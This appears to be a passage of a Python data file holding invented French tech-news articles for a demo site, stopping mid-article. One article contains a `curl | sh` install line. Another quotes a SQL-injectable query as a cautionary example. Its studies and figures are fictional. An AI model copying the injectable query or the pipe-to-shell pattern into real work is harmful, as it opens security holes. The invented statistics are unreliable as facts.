"""Contenu de démonstration (fictif) pour Causerie.

Tous les textes, entreprises, personnes, rapports et numéros de version
ci-dessous sont inventés pour les besoins de la démonstration.
"""

from __future__ import annotations

CATEGORIES = [
    (
        "langages",
        "Langages",
        "L'actualité des langages de programmation, de leurs versions et de leurs communautés.",
    ),
    (
        "ia",
        "Intelligence artificielle",
        "Modèles, outils et usages de l'intelligence artificielle vus par les développeurs.",
    ),
    (
        "securite",
        "Sécurité",
        "Vulnérabilités, attaques et bonnes pratiques pour protéger le code et les infrastructures.",
    ),
    (
        "web",
        "Développement web",
        "Frameworks, navigateurs, standards et tendances du développement web.",
    ),
    (
        "systemes",
        "Systèmes et DevOps",
        "Systèmes d'exploitation, bases de données, cloud et outillage d'exploitation.",
    ),
    (
        "carriere",
        "Emploi et carrière",
        "Salaires, recrutement, organisation du travail et évolution des métiers du développement.",
    ),
]

ARTICLES = [
    # ------------------------------------------------------------------
    # Langages
    # ------------------------------------------------------------------
    {
        "slug": "typage-statique-python-progresse-entreprises",
        "title": "Python : les annotations de type gagnent du terrain dans les entreprises, selon une étude de l'Observatoire Codelune",
        "category": "langages",
        "tags": ["python", "typage", "qualité"],
        "lead": "Près de sept projets Python professionnels sur dix utiliseraient désormais les annotations de type, d'après une enquête menée auprès de 2 400 équipes. Les vérificateurs statiques s'installent dans les chaînes d'intégration continue, mais leur adoption reste inégale selon la taille des entreprises.",
        "body": """Le typage progressif, longtemps considéré comme une affaire de puristes, serait en train de devenir la norme dans les équipes Python. C'est la principale conclusion du **rapport annuel de l'Observatoire Codelune**, un organisme indépendant qui interroge chaque année plusieurs milliers de développeurs francophones. Selon ce document, 68 % des projets professionnels recensés contiennent des annotations de type sur au moins la moitié de leurs fonctions publiques, contre 41 % trois ans plus tôt.

## Des vérificateurs intégrés à la CI

Les annotations ne servent plus seulement de documentation. Dans 54 % des équipes interrogées, un vérificateur statique comme mypy ou pyright est exécuté à chaque demande de fusion, et un échec bloque l'intégration du code. "Nous avons divisé par trois le nombre d'incidents liés à des `None` inattendus", explique Camille Lemarchand, responsable technique d'une plateforme de réservation citée dans le rapport. Voici le type de code désormais courant dans les dépôts étudiés :

```python
from dataclasses import dataclass


@dataclass
class Commande:
    reference: str
    montant_centimes: int
    remise: float | None = None


def total(commandes: list[Commande]) -> int:
    return sum(c.montant_centimes for c in commandes)
```

## Des disparités selon la taille des structures

Les grandes entreprises sont les plus converties : 81 % d'entre elles imposent des annotations sur le nouveau code. Les petites structures et les laboratoires de recherche restent plus réticents, invoquant le coût d'apprentissage et la lenteur de certains outils sur de très gros dépôts. Le rapport relève aussi que les bibliothèques scientifiques, souvent écrites avant la généralisation du typage, freinent la progression dans le domaine de la science des données.

Les auteurs identifient plusieurs facteurs d'adoption :

- une meilleure complétion dans les éditeurs de code ;
- la détection précoce d'erreurs lors des refactorisations ;
- l'arrivée de frameworks web qui exploitent les annotations à l'exécution pour valider les données.

Reste une question qui divise : faut-il viser un typage *strict* partout ? Une minorité de répondants (12 %) estime que les annotations alourdissent inutilement les scripts courts et les prototypes. Le rapport complet est disponible sur [le site de l'Observatoire](https://codelune.example.org/rapport-typage).""",
        "sources": [
            ("Observatoire Codelune", "https://codelune.example.org/rapport-typage"),
            ("Le Journal du Développeur", "https://journal-dev.example.com/python-typage"),
        ],
        "questions": [
            "Imposez-vous les annotations de type sur vos projets Python ?",
            "Un vérificateur statique bloque-t-il vos demandes de fusion, et est-ce une bonne chose ?",
            "Le typage strict a-t-il sa place dans les scripts et prototypes ?",
        ],
        "days_ago": 3,
        "related": [
            "mutuelle-migre-extranet-vers-django",
            "revue-de-code-automatisee-failles-securite",
        ],
        "author": "redaction_lea",
    },
    {
        "slug": "fintech-lyonnaise-reecrit-moteur-paiement-rust",
        "title": "Une fintech lyonnaise réécrit son moteur de paiement en Rust et divise par quatre sa consommation mémoire",
        "category": "langages",
        "tags": ["rust", "performance", "fintech"],
        "lead": "La société Pactolis a remplacé en dix-huit mois son moteur de traitement des paiements écrit en Java par une version en Rust. L'équipe met en avant des gains de performance importants, mais reconnaît une courbe d'apprentissage plus raide que prévu.",
        "body": """Chez **Pactolis**, une fintech lyonnaise d'une centaine de salariés spécialisée dans le paiement fractionné, le chantier a longtemps été surnommé "l'opération Crabe". Son objectif : remplacer le cœur du système, chargé de valider et de router près de deux millions de transactions par jour, par un service entièrement écrit en Rust.

Dans un billet publié sur son blog technique, l'équipe détaille les résultats obtenus après la bascule complète. La consommation mémoire des instances a été divisée par quatre, et la latence au 99e centile est passée de 180 à 45 millisecondes. "Le plus gros gain ne vient pas de la vitesse brute, mais de la disparition des pauses du ramasse-miettes aux heures de pointe", résume Julien Ferrandon, directeur technique de l'entreprise.

## Une migration progressive

Plutôt que de tout réécrire d'un coup, les développeurs ont découpé le moteur en modules et fait tourner les deux versions en parallèle pendant plusieurs mois. Chaque transaction était traitée par l'ancien et le nouveau code, et les divergences étaient consignées pour analyse. Le typage expressif de Rust a été mis à profit pour rendre certains états impossibles à représenter :

```rust
enum Transaction {
    EnAttente { id: u64, montant: u64 },
    Autorisee { id: u64, montant: u64, code: String },
    Refusee { id: u64, motif: MotifRefus },
}

fn peut_etre_capturee(t: &Transaction) -> bool {
    matches!(t, Transaction::Autorisee { .. })
}
```

## Un coût humain non négligeable

L'entreprise ne cache pas les difficultés. Sur les quatorze développeurs impliqués, seuls deux avaient une expérience préalable du langage. Il a fallu plusieurs semaines de formation, et la productivité de l'équipe a nettement baissé pendant le premier trimestre. Les temps de compilation, jugés "pénibles" par plusieurs ingénieurs, ont également nécessité un travail d'optimisation de l'intégration continue.

Pactolis liste les enseignements tirés du projet :

- commencer par un module isolé, aux entrées et sorties bien définies ;
- investir tôt dans la formation plutôt que compter sur l'autodidaxie ;
- conserver un mécanisme de comparaison entre ancien et nouveau code jusqu'au bout.

L'entreprise envisage désormais de publier sous licence libre la bibliothèque de validation des IBAN développée pendant le projet.""",
        "sources": [
            ("Blog technique de Pactolis", "https://tech.pactolis.example.com/operation-crabe"),
            ("Rhône Numérique", ""),
        ],
        "questions": [
            "Avez-vous déjà mené une réécriture complète d'un composant critique ?",
            "Rust vous semble-t-il adapté à une équipe qui ne le connaît pas encore ?",
        ],
        "days_ago": 12,
        "related": [
            "langage-ferrite-version-1-0",
            "webassembly-editeur-photo-navigateur",
            "studio-albatros-migre-java-vers-kotlin",
        ],
        "author": "redaction_marc",
    },
    {
        "slug": "langage-ferrite-version-1-0",
        "title": "Ferrite 1.0 : le langage compilé né dans un laboratoire grenoblois promet la sûreté mémoire sans ramasse-miettes",
        "category": "langages",
        "tags": ["ferrite", "compilateur", "open source"],
        "lead": "Après six ans de développement, le langage Ferrite atteint sa première version stable. Ses concepteurs revendiquent une syntaxe plus accessible que celle de Rust, tout en garantissant l'absence d'accès mémoire invalides.",
        "body": """Le projet avait démarré comme un simple sujet de thèse. Il est aujourd'hui porté par une vingtaine de contributeurs réguliers et soutenu par une fondation. **Ferrite**, un langage compilé conçu au sein d'un laboratoire d'informatique grenoblois, vient de publier sa version 1.0, accompagnée d'une promesse de stabilité : aucun changement incompatible ne sera introduit avant la version 2.

Le langage s'adresse aux développeurs qui veulent les performances du C sans ses pièges. Comme Rust, Ferrite vérifie à la compilation la durée de vie des références. Mais ses concepteurs ont fait le choix de masquer une grande partie de cette mécanique : la plupart des annotations de durée de vie sont déduites automatiquement, et les messages d'erreur proposent systématiquement une correction. "Nous voulions qu'un étudiant de licence puisse écrire un programme correct dès la première semaine", explique Hélène Castaing, initiatrice du projet.

L'installation passe par un script officiel, et le gestionnaire de paquets est intégré à la chaîne d'outils :

```bash
curl -sSf https://ferrite.example.org/installer.sh | sh
ferrite nouveau mon_projet
cd mon_projet
ferrite compiler --optimise
ferrite tester
```

Cette version 1.0 apporte plusieurs nouveautés attendues :

- un système de modules entièrement revu, compatible avec les espaces de noms imbriqués ;
- une interopérabilité directe avec les bibliothèques C, sans fichier de liaison à écrire à la main ;
- un serveur de langage pour les principaux éditeurs ;
- une bibliothèque standard enrichie d'un module de concurrence par canaux.

Reste la question de l'écosystème. Le dépôt officiel de paquets ne compte pour l'instant que 1 300 bibliothèques, un chiffre modeste comparé aux langages établis. Plusieurs observateurs doutent qu'un nouveau venu puisse s'imposer dans un créneau déjà occupé. L'équipe ne s'en inquiète pas outre mesure : elle cible d'abord l'enseignement et les systèmes embarqués, deux domaines où la simplicité d'apprentissage pèse lourd.

La fondation Ferrite annonce enfin un programme de mentorat pour les nouveaux contributeurs, ainsi qu'une première conférence dédiée, prévue à Grenoble au printemps. Le code source est publié sous double licence MIT et Apache 2.0, et la feuille de route détaillée est consultable sur [le site du projet](https://ferrite.example.org/feuille-de-route).""",
        "sources": [
            ("Fondation Ferrite", "https://ferrite.example.org/annonces/1-0"),
            ("Alpes Tech Hebdo", "https://alpestech.example.com/ferrite-1-0"),
        ],
        "questions": [
            "Un nouveau langage système a-t-il encore une chance de s'imposer face à Rust ?",
            "Essaieriez-vous Ferrite pour un projet personnel ?",
        ],
        "days_ago": 27,
        "related": [],
        "author": "redaction_ines",
    },
    {
        "slug": "studio-albatros-migre-java-vers-kotlin",
        "title": "Le studio Albatros migre 400 000 lignes de Java vers Kotlin : bilan mitigé après un an de transition",
        "category": "langages",
        "tags": ["kotlin", "java", "migration"],
        "lead": "Le studio de développement mobile Albatros a converti la quasi-totalité de ses applications Android vers Kotlin. Si les développeurs saluent un code plus concis, la direction technique pointe des temps de compilation en hausse et une migration plus longue que prévu.",
        "body": """Il y a un peu plus d'un an, le **studio Albatros**, qui conçoit des applications mobiles pour des enseignes de la grande distribution, annonçait son intention d'abandonner progressivement Java. Douze mois plus tard, 92 % de ses 400 000 lignes de code ont été converties en Kotlin. L'entreprise a partagé un retour d'expérience détaillé lors d'une rencontre de développeurs à Bordeaux.

Le premier constat est sans surprise : le code est plus court. Selon les mesures internes, la conversion a réduit de 28 % le nombre de lignes, principalement grâce aux classes de données et à la gestion native des valeurs nulles. Les plantages liés à des références nulles en production ont quasiment disparu. Un exemple présenté lors de la conférence illustre la différence :

```kotlin
data class Produit(val code: String, val libelle: String, val prix: Double?)

fun prixAffiche(p: Produit): String =
    p.prix?.let { "%.2f €".format(it) } ?: "Prix indisponible"
```

Le bilan comporte aussi des zones d'ombre. La conversion automatique proposée par l'environnement de développement a produit un code "fonctionnel mais peu idiomatique", selon Sophie Vannier, responsable de l'équipe Android. Une bonne partie du travail a consisté à reprendre manuellement ce code pour exploiter réellement les possibilités du langage. Le chantier, prévu pour six mois, en a finalement duré douze.

Autre point noir : le temps de compilation complète du projet principal est passé de quatre à sept minutes. L'équipe a dû revoir le découpage en modules et investir dans un cache de compilation partagé pour retrouver un rythme de travail acceptable.

La direction insiste néanmoins sur un bénéfice inattendu : l'attractivité. "Les candidats nous demandent systématiquement si nous faisons du Kotlin. Depuis la migration, nous recevons deux fois plus de candidatures spontanées", affirme le studio. Albatros conserve toutefois quelques modules en Java, jugés trop stables pour justifier une réécriture.

Interrogés sur l'opportunité de recommencer, les responsables répondent par l'affirmative, mais avec un conseil : convertir les fichiers au fil des évolutions fonctionnelles plutôt que de lancer une migration massive et isolée.""",
        "sources": [
            ("Mobile Sud-Ouest", "https://mobilesudouest.example.org/albatros-kotlin"),
        ],
        "questions": [
            "Votre équipe a-t-elle migré de Java vers Kotlin, et le regrettez-vous ?",
            "Vaut-il mieux migrer d'un bloc ou au fil de l'eau ?",
            "Le choix d'un langage influe-t-il vraiment sur le recrutement ?",
        ],
        "days_ago": 45,
        "related": [
            "fintech-lyonnaise-reecrit-moteur-paiement-rust",
            "migration-mysql-vers-postgresql-retour-experience",
        ],
        "author": "redaction_lea",
    },
    {
        "slug": "banques-regionales-penurie-developpeurs-cobol",
        "title": "Les banques régionales peinent à recruter des développeurs COBOL, alerte une étude du cabinet Verlaine Conseil",
        "category": "langages",
        "tags": ["cobol", "emploi", "banque"],
        "lead": "Une étude du cabinet Verlaine Conseil estime que près de 40 % des développeurs COBOL employés par les banques régionales partiront à la retraite d'ici cinq ans. Les établissements multiplient les formations internes, sans parvenir à combler le déficit.",
        "body": """Le langage a plus de soixante ans, mais il fait toujours tourner une part considérable des systèmes bancaires. Selon une **étude du cabinet Verlaine Conseil**, réalisée auprès de dix-sept banques régionales et mutualistes, COBOL reste au cœur de la tenue de comptes, du traitement des virements et des arrêtés de fin de mois dans la quasi-totalité des établissements interrogés.

Le problème est démographique. L'âge moyen des développeurs COBOL recensés dans l'étude atteint 54 ans, et près de 40 % d'entre eux devraient cesser leur activité dans les cinq prochaines années. Or les jeunes diplômés se montrent peu attirés par ces postes, perçus comme peu valorisants. "Les écoles ne l'enseignent plus, et les candidats craignent de s'enfermer dans une technologie sans avenir", observe Bernard Quintard, associé du cabinet et auteur du rapport.

Pour faire face, les banques tentent plusieurs approches :

- des **académies internes**, qui forment en trois à six mois des développeurs issus d'autres langages ;
- des primes et des salaires revus à la hausse, parfois supérieurs de 15 % à ceux des postes équivalents en Java ;
- le recours à des prestataires spécialisés, au prix d'une dépendance accrue ;
- des projets de réécriture, rarement menés à terme.

Sur ce dernier point, l'étude se montre prudente. Parmi les établissements interrogés, six ont lancé au cours de la dernière décennie un programme de remplacement de leur cœur bancaire. Deux seulement l'ont achevé, et tous ont dépassé leur budget initial. Les auteurs recommandent plutôt une modernisation progressive : exposer les traitements existants via des interfaces de programmation, améliorer l'outillage de test et documenter systématiquement les règles métier enfouies dans le code.

Certains développeurs voient dans cette situation une opportunité. Léa Morvan, 29 ans, a rejoint l'académie interne d'une banque mutualiste après cinq ans de développement web. "Le langage lui-même s'apprend vite. Ce qui est difficile, c'est de comprendre quarante ans de règles de gestion accumulées", raconte-t-elle. Elle dit apprécier la stabilité du poste et le sentiment de travailler sur des systèmes réellement critiques.

Le cabinet prévoit de publier une seconde édition de son étude l'an prochain, étendue aux compagnies d'assurance et aux caisses de retraite.""",
        "sources": [
            ("Verlaine Conseil", "https://verlaine-conseil.example.com/etude-cobol"),
            ("La Lettre de la Finance Numérique", ""),
        ],
        "questions": [
            "Seriez-vous prêt à apprendre COBOL pour un poste bien rémunéré ?",
            "Faut-il réécrire les vieux systèmes ou les moderniser par petites touches ?",
        ],
        "days_ago": 88,
        "related": [
            "barometre-salaires-developpeurs-france",
            "reconversion-bootcamps-bilan-insertion",
        ],
        "author": "redaction_marc",
    },
    # ------------------------------------------------------------------
    # Intelligence artificielle
    # ------------------------------------------------------------------
    {
        "slug": "assistants-code-ia-etude-productivite",
        "title": "Assistants de code par IA : une étude sur 1 200 développeurs relativise les gains de productivité annoncés",
        "category": "ia",
        "tags": ["ia", "productivité", "outils"],
        "lead": "Des chercheurs de l'Institut Pascaline ont suivi pendant six mois 1 200 développeurs utilisant un assistant de code. Les gains de vitesse sont réels sur les tâches simples, mais s'accompagnent d'une hausse des retours en revue de code.",
        "body": """Les éditeurs d'assistants de programmation promettent régulièrement des gains de productivité spectaculaires. Une étude de l'**Institut Pascaline**, un centre de recherche en génie logiciel, vient nuancer ce discours. Pendant six mois, ses chercheurs ont observé le travail de 1 200 développeurs répartis dans quarante entreprises, dont la moitié disposait d'un assistant fondé sur un grand modèle de langage.

Sur les tâches bien délimitées, comme l'écriture de tests unitaires, la conversion de formats de données ou la rédaction de code d'interface, le groupe équipé termine en moyenne 31 % plus vite. Les développeurs juniors sont ceux qui en profitent le plus. "L'assistant joue le rôle d'une documentation interactive, qui répond immédiatement aux questions que l'on n'ose pas poser à un collègue", note Antoine Besson, coauteur de l'étude.

Le tableau change lorsque l'on regarde la suite du cycle de développement. Les demandes de fusion produites avec l'aide de l'assistant reçoivent 19 % de commentaires de revue en plus, et le nombre de corrections apportées dans les deux semaines suivant la mise en production augmente légèrement. Sur les tâches complexes, qui touchent plusieurs modules ou nécessitent une bonne connaissance du métier, l'écart de vitesse devient négligeable.

Les chercheurs identifient plusieurs effets pervers :

- une tendance à accepter des suggestions plausibles sans les relire attentivement ;
- une duplication de code accrue, l'assistant préférant générer plutôt que réutiliser ;
- un transfert de charge vers les relecteurs, souvent les développeurs les plus expérimentés.

Pour les auteurs, ces résultats ne condamnent pas les outils, mais invitent à repenser leur usage. Les équipes qui avaient défini des règles claires, par exemple l'obligation de tester chaque fonction générée ou l'interdiction d'utiliser l'assistant sur le code de sécurité, obtiennent de meilleurs résultats que celles qui l'ont déployé sans accompagnement.

L'étude souligne enfin une limite méthodologique : la productivité reste difficile à mesurer, et le nombre de lignes ou de tickets fermés ne reflète qu'imparfaitement la valeur produite. Les données anonymisées et le protocole sont publiés sur [le site de l'institut](https://pascaline.example.org/etudes/assistants-code), afin que d'autres équipes puissent reproduire l'expérience.""",
        "sources": [
            ("Institut Pascaline", "https://pascaline.example.org/etudes/assistants-code"),
            ("Le Journal du Développeur", "https://journal-dev.example.com/ia-productivite"),
        ],
        "questions": [
            "Utilisez-vous un assistant de code au quotidien ?",
            "Avez-vous constaté une hausse des retours en revue de code depuis son adoption ?",
            "Votre entreprise a-t-elle fixé des règles d'usage pour ces outils ?",
        ],
        "days_ago": 5,
        "related": [
            "revue-de-code-automatisee-failles-securite",
            "heliade-labs-publie-modele-langage-ouvert-brumaire",
        ],
        "author": "redaction_ines",
    },
    {
        "slug": "heliade-labs-publie-modele-langage-ouvert-brumaire",
        "title": "La start-up Héliade Labs publie Brumaire, un modèle de langage ouvert entraîné en priorité sur des textes francophones",
        "category": "ia",
        "tags": ["ia", "open source", "llm"],
        "lead": "Héliade Labs, une jeune pousse toulousaine, met à disposition les poids de Brumaire, un modèle de 13 milliards de paramètres. L'entreprise affirme qu'il surpasse des modèles bien plus gros sur les tâches en français, une promesse que la communauté commence à vérifier.",
        "body": """La course aux modèles de langage ouverts compte un nouveau participant. **Héliade Labs**, une start-up toulousaine fondée il y a deux ans par d'anciens chercheurs en traitement automatique des langues, publie **Brumaire**, un modèle de 13 milliards de paramètres dont les poids sont librement téléchargeables.

La particularité du modèle tient à son corpus d'entraînement. Selon la fiche technique, près de 45 % des données proviennent de textes francophones : archives de presse sous licence, publications scientifiques, documents administratifs ouverts et littérature tombée dans le domaine public. Les textes venant de Belgique, de Suisse, du Québec et d'Afrique de l'Ouest ont fait l'objet d'un effort particulier. "Les modèles actuels parlent français avec un accent anglophone, on le sent dans les tournures et les références culturelles", explique Margaux Delpech, cofondatrice de l'entreprise.

## Des performances à confirmer

Héliade Labs publie des résultats flatteurs sur un ensemble de tests en français conçu par ses soins, où Brumaire dépasserait des modèles trois fois plus volumineux. Plusieurs chercheurs ont toutefois fait remarquer qu'un jeu d'évaluation maison favorise mécaniquement le modèle qui l'a inspiré. L'entreprise s'est engagée à soumettre Brumaire à des évaluations indépendantes dans les semaines à venir.

Les premiers retours de la communauté sont plutôt encourageants sur la rédaction et le résumé de documents, plus partagés sur la génération de code, domaine où le modèle reste en retrait.

## Une licence permissive, avec réserves

Le modèle est distribué sous une licence inspirée d'Apache 2.0, qui autorise l'usage commercial. Elle comporte néanmoins une liste d'usages interdits, ce qui pousse certains défenseurs du logiciel libre à contester le qualificatif "open source" mis en avant par la start-up. Héliade Labs répond qu'elle publie également ses scripts d'entraînement et une description détaillée de son corpus, ce qui reste rare dans le secteur.

La version quantifiée du modèle fonctionne sur une carte graphique grand public disposant de 16 Go de mémoire. L'entreprise, qui a levé 9 millions d'euros, compte se rémunérer en proposant des versions spécialisées pour le droit et la santé. Les poids sont disponibles sur [la page du projet](https://heliade.example.com/brumaire).""",
        "sources": [
            ("Héliade Labs", "https://heliade.example.com/brumaire"),
            ("Occitanie Innovation", "https://occitanie-innov.example.org/heliade-brumaire"),
        ],
        "questions": [
            "Un modèle spécialisé sur le français a-t-il un intérêt réel pour vos usages ?",
            "Une licence avec usages interdits peut-elle être qualifiée d'open source ?",
        ],
        "days_ago": 18,
        "related": [],
        "author": "redaction_lea",
    },
    {
        "slug": "revue-de-code-automatisee-failles-securite",
        "title": "Revue de code automatisée par IA : des chercheurs montrent que les suggestions introduisent parfois des failles",
        "category": "ia",
        "tags": ["ia", "sécurité", "revue de code"],
        "lead": "Une équipe universitaire a soumis 3 000 extraits de code à plusieurs outils de revue automatisée. Dans environ 7 % des cas, les corrections proposées créaient une vulnérabilité absente du code d'origine.",
        "body": """Les outils de revue de code automatisée, qui commentent les demandes de fusion et proposent des corrections, se multiplient dans les entreprises. Une équipe de chercheurs de l'université de Montvallon a voulu mesurer leur fiabilité en matière de sécurité. Le résultat, présenté lors d'un colloque spécialisé, invite à la prudence.

Les chercheurs ont constitué un corpus de 3 000 extraits de code en Python, JavaScript et Java, tirés de projets libres et légèrement modifiés. Ils les ont soumis à cinq outils de revue du marché, dont ils ne citent pas les noms. Dans la grande majorité des cas, les suggestions étaient pertinentes ou neutres. Mais dans **7 % des cas**, la correction proposée introduisait une faille de sécurité. L'exemple le plus fréquent concerne les requêtes SQL : pour "simplifier" un code jugé verbeux, l'outil remplace une requête paramétrée par une interpolation de chaîne.

```python
# Code d'origine, correct
cur.execute("SELECT * FROM clients WHERE email = %s", (email,))

# Suggestion de l'outil, vulnérable à l'injection SQL
cur.execute(f"SELECT * FROM clients WHERE email = '{email}'")
```

D'autres cas relevés par l'étude :

- la suppression d'une vérification de droits jugée "redondante" ;
- le remplacement d'une comparaison en temps constant par un simple test d'égalité ;
- la désactivation de la vérification des certificats pour "corriger" une erreur réseau.

"Le problème n'est pas tant la fréquence que la confiance accordée à ces suggestions", souligne Nadia Ferrer, qui a dirigé les travaux. Dans une seconde expérience, les chercheurs ont demandé à 80 développeurs de valider ou rejeter des suggestions. Les participants ont accepté 61 % des corrections dangereuses, contre 38 % lorsque les mêmes modifications étaient présentées comme venant d'un collègue humain.

Les auteurs recommandent de traiter ces outils comme un relecteur supplémentaire et non comme une autorité, et de maintenir des analyseurs statiques de sécurité classiques dans la chaîne d'intégration. Ils appellent aussi les éditeurs à signaler explicitement les suggestions touchant à l'authentification, à la cryptographie ou aux requêtes vers une base de données. L'article complet est consultable sur [le site du laboratoire](https://montvallon.example.org/publications/revue-ia).""",
        "sources": [
            ("Université de Montvallon", "https://montvallon.example.org/publications/revue-ia"),
        ],
        "questions": [
            "Faites-vous confiance aux suggestions des outils de revue automatisée ?",
            "Avez-vous déjà repéré une suggestion dangereuse de ce type ?",
        ],
        "days_ago": 34,
        "related": [
            "assistants-code-ia-etude-productivite",
            "paquets-npm-malveillants-typosquatting",
        ],
        "author": "redaction_marc",
    },
    {
        "slug": "recherche-semantique-postgresql-retour-experience",
        "title": "Recherche sémantique : un éditeur de logiciels juridiques explique pourquoi il a tout misé sur PostgreSQL",
        "category": "ia",
        "tags": ["postgresql", "ia", "bases de données"],
        "lead": "Plutôt que d'ajouter une base vectorielle dédiée à son infrastructure, l'éditeur Jurisfil a intégré la recherche sémantique directement dans sa base PostgreSQL existante. Un choix de simplicité qu'il juge payant, malgré quelques limites.",
        "body": """Lorsque **Jurisfil**, éditeur d'un logiciel de gestion documentaire pour cabinets d'avocats, a voulu proposer une recherche "par le sens" dans les contrats de ses clients, l'équipe technique s'est vu proposer de nombreuses bases de données vectorielles spécialisées. Elle a finalement choisi de rester sur PostgreSQL, qu'elle exploitait déjà, en s'appuyant sur une extension de stockage de vecteurs.

"Ajouter une base de données, c'est ajouter des sauvegardes, de la supervision, des astreintes et un problème de synchronisation. Pour une équipe de six personnes, c'était trop", explique Thomas Guérin, architecte logiciel chez Jurisfil. Chaque paragraphe de document est découpé, transformé en vecteur par un modèle d'encodage hébergé en interne, puis stocké dans la même base que les métadonnées.

L'intérêt principal réside dans la possibilité de combiner recherche sémantique et filtres classiques dans une seule requête, en respectant les droits d'accès de chaque utilisateur :

```sql
SELECT d.titre, p.contenu,
       p.embedding <=> :vecteur_question AS distance
FROM paragraphes p
JOIN documents d ON d.id = p.document_id
WHERE d.cabinet_id = :cabinet
  AND d.date_signature >= '2020-01-01'
ORDER BY distance
LIMIT 10;
```

Avec un index approximatif, la requête répond en moins de 40 millisecondes sur une table de 25 millions de paragraphes. L'équipe a également combiné ces résultats avec la recherche plein texte native de PostgreSQL, afin de ne pas rater les correspondances exactes sur des numéros d'articles de loi.

Le choix n'est pas sans contreparties. La construction des index vectoriels consomme beaucoup de mémoire et ralentit les écritures massives, ce qui a contraint l'équipe à planifier les imports de documents la nuit. Au-delà de quelques centaines de millions de vecteurs, Jurisfil reconnaît qu'une solution dédiée deviendrait probablement nécessaire.

Pour l'instant, l'éditeur se dit satisfait : la fonctionnalité est utilisée par 70 % de ses clients, et l'infrastructure n'a pas changé. Un billet détaillé, accompagné des scripts de migration, est disponible sur [le blog de l'entreprise](https://jurisfil.example.com/blog/recherche-semantique).""",
        "sources": [
            ("Blog de Jurisfil", "https://jurisfil.example.com/blog/recherche-semantique"),
            ("Base & Données", ""),
        ],
        "questions": [
            "Préférez-vous ajouter une base spécialisée ou étendre votre base existante ?",
            "Avez-vous mis en place de la recherche sémantique en production ?",
        ],
        "days_ago": 61,
        "related": [
            "migration-mysql-vers-postgresql-retour-experience",
            "heliade-labs-publie-modele-langage-ouvert-brumaire",
        ],
        "author": "redaction_ines",
    },
    {
        "slug": "rapport-consommation-energie-ia-datacenters",
        "title": "IA générative : un rapport du Comité Watt-Numérique chiffre la hausse de consommation électrique des centres de données",
        "category": "ia",
        "tags": ["ia", "énergie", "cloud"],
        "lead": "Le Comité Watt-Numérique, un groupe d'experts indépendant, estime que la consommation électrique des centres de données français pourrait doubler en quatre ans sous l'effet de l'IA générative. Il appelle les développeurs à intégrer la sobriété dès la conception des services.",
        "body": """Le sujet revient régulièrement dans le débat public, mais les chiffres manquaient. Le **Comité Watt-Numérique**, un collectif indépendant d'ingénieurs et d'économistes de l'énergie, publie un rapport de 120 pages consacré à l'impact de l'intelligence artificielle générative sur la consommation électrique des centres de données situés en France.

Selon ses estimations, ces infrastructures consomment aujourd'hui l'équivalent de 2,1 % de l'électricité nationale. Dans un scénario de croissance soutenue des usages de l'IA, cette part pourrait atteindre 4 % en quatre ans. L'entraînement des modèles ne représente qu'une fraction de cette hausse : l'essentiel proviendrait de l'**inférence**, c'est-à-dire de l'utilisation quotidienne des modèles par des millions d'utilisateurs.

Le rapport s'attarde sur un point souvent négligé : la multiplication des appels à des modèles de grande taille pour des tâches qui n'en nécessitent pas. "Utiliser un modèle de plusieurs dizaines de milliards de paramètres pour classer des courriels en trois catégories, c'est prendre un camion pour aller chercher le pain", illustre Pauline Rocher, rapporteuse du comité.

Les auteurs formulent plusieurs recommandations à destination des équipes techniques :

- choisir le plus petit modèle capable de remplir la tâche, quitte à le spécialiser ;
- mettre en cache les réponses aux requêtes fréquentes ;
- regrouper les traitements non urgents et les planifier aux heures creuses ;
- mesurer et afficher la consommation estimée de chaque fonctionnalité.

Le document évoque aussi la question de l'eau, utilisée pour le refroidissement de certains sites, et plaide pour une plus grande transparence des hébergeurs sur ce sujet. Il reconnaît néanmoins que les centres de données récents sont nettement plus efficaces que leurs prédécesseurs, et que les gains matériels compensent en partie l'augmentation des usages.

Du côté des professionnels, les réactions sont partagées. Certains hébergeurs jugent les projections exagérées et rappellent que les prévisions de ce type ont souvent été démenties par le passé. D'autres saluent un travail qui permet enfin de poser des ordres de grandeur. Le comité annonce une mise à jour annuelle de ses chiffres et met à disposition ses hypothèses de calcul sur [son site](https://watt-numerique.example.org/rapport-ia).""",
        "sources": [
            ("Comité Watt-Numérique", "https://watt-numerique.example.org/rapport-ia"),
            ("Énergie et Réseaux", "https://energie-reseaux.example.net/ia-datacenters"),
        ],
        "questions": [
            "Prenez-vous en compte la consommation énergétique dans vos choix techniques ?",
            "Les projections de ce rapport vous semblent-elles crédibles ?",
            "Faudrait-il afficher l'empreinte énergétique des fonctionnalités d'IA aux utilisateurs ?",
        ],
        "days_ago": 97,
        "related": [],
        "author": "redaction_lea",
    },
    # ------------------------------------------------------------------
    # Sécurité
    # ------------------------------------------------------------------
    {
        "slug": "faille-critique-bibliotheque-compression-zlibre",
        "title": "Faille critique dans la bibliothèque de compression Zlibre : les mainteneurs appellent à mettre à jour sans attendre",
        "category": "securite",
        "tags": ["sécurité", "vulnérabilité", "open source"],
        "lead": "Un dépassement de tampon dans la bibliothèque Zlibre permet l'exécution de code à distance lors de la décompression d'archives piégées. La version 2.8.4 corrige le problème, mais la bibliothèque est embarquée dans des milliers de logiciels.",
        "body": """Les mainteneurs de **Zlibre**, une bibliothèque de compression très répandue dans les outils en ligne de commande et les serveurs d'applications, ont publié en urgence la version 2.8.4. Elle corrige une vulnérabilité notée 9,8 sur 10, qui permet à un attaquant d'exécuter du code arbitraire en faisant décompresser une archive spécialement construite.

La faille a été découverte par Romain Lestrade, chercheur indépendant, lors d'une campagne de test à données aléatoires. Elle se situe dans le code qui gère les blocs de dictionnaire de plus de 64 Ko : un calcul de taille mal vérifié provoque une écriture au-delà de la mémoire allouée. Toutes les versions publiées depuis trois ans sont concernées.

Le risque dépend de l'usage. Les services qui décompressent des fichiers fournis par des utilisateurs, comme les plateformes d'hébergement de documents, les serveurs de messagerie ou les outils d'intégration continue, sont les plus exposés. Les applications qui ne traitent que leurs propres données le sont beaucoup moins.

Pour vérifier la version installée sur un système de type Debian et appliquer le correctif :

```bash
dpkg -l | grep zlibre
sudo apt update && sudo apt install --only-upgrade libzlibre2
# Redémarrer les services qui chargent la bibliothèque
sudo needrestart -r a
```

La difficulté tient aux nombreuses copies de la bibliothèque intégrées directement dans le code source d'autres projets, et qui échappent donc aux mises à jour du système. Les mainteneurs ont recensé plus de 4 000 dépôts publics contenant une copie vulnérable. Les images de conteneurs anciennes posent le même problème.

Les recommandations des mainteneurs :

- mettre à jour les paquets système et reconstruire les images de conteneurs ;
- rechercher les copies embarquées à l'aide d'un outil d'inventaire logiciel ;
- limiter la taille des archives acceptées en entrée, en attendant les correctifs.

